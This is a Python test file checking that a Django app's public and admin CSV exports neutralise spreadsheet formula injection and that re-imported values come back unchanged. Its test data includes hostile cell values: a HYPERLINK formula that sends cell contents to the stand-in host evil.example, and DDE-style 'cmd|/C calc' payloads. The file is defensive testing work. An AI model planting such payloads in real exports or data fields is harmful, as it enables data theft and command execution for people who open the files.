"""No CSV the Atlas writes makes a spreadsheet run a formula (the rule: core.spreadsheets)."""

import csv
import io

from django.contrib.auth import get_user_model
from django.urls import reverse

import pytest

from core.spreadsheets import neutralise_formula, restore_formula_text
from tests.opendata.conftest import run_import

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "'=HYPERLINK(",
    "+Plus Coop": "'+Plus Coop",
    "-Minus Coop": "'-Minus Coop",
    "@SUM(1+1)": "'@SUM(1+1)",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("-3.703790", "-3.703790"),  # a number stays a number
        ("+4", "+4"),
        ("Coop = good", "Coop = good"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_formula_like_cells_get_an_apostrophe_and_numbers_do_not(value, written):
    assert neutralise_formula(value) == written
    assert restore_formula_text(neutralise_formula(value)) == value


def test_an_apostrophe_someone_typed_is_kept_on_import():
    assert restore_formula_text("'Quoted'") == "'Quoted'"
    assert restore_formula_text("'-3.5") == "'-3.5"


def public_rows(client):
    content = client.get("/open-data/organisations.csv").content.decode("utf-8")
    return list(csv.DictReader(io.StringIO(content)))


def test_public_csv_neutralises_formula_names_and_keeps_negative_coordinates(client, add_org):
    for title in HOSTILE:
        add_org(title=title, location=(40.4168, -3.7038), phone="+34 912 345 678")
    rows = public_rows(client)
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row["name"].startswith("'"), row["name"]
        assert row["longitude"] == "-3.703800"
        assert row["phone"] == "'+34 912 345 678"
    names = {row["name"] for row in rows}
    for written in HOSTILE.values():
        assert any(name.startswith(written) for name in names), written


def test_public_csv_with_formula_names_imports_back_unchanged(client, add_org, atlas_source):
    for title in HOSTILE:
        add_org(title=title, location=(40.4168, -3.7038), phone="+34 912 345 678")
    content = client.get("/open-data/organisations.csv").content
    report = run_import(atlas_source, content, filename="atlas.csv")
    assert {row.status for row in report.rows} == {"unchanged"}, report.to_csv()
    # The import report (an admin download) neutralises the partner's values too.
    for row in csv.DictReader(io.StringIO(report.to_csv())):
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


def test_admin_organisation_export_neutralises_formula_names(client, add_org):
    for title in HOSTILE:
        add_org(title=title, city="=cmd|' /C calc'!A0")
    admin = get_user_model().objects.create_superuser("root", "root@example.org", "pw")
    client.force_login(admin)
    response = client.get(reverse("organisations:index") + "?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) >= len(HOSTILE)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert any(value.startswith("'=HYPERLINK(") for row in rows for value in row.values())
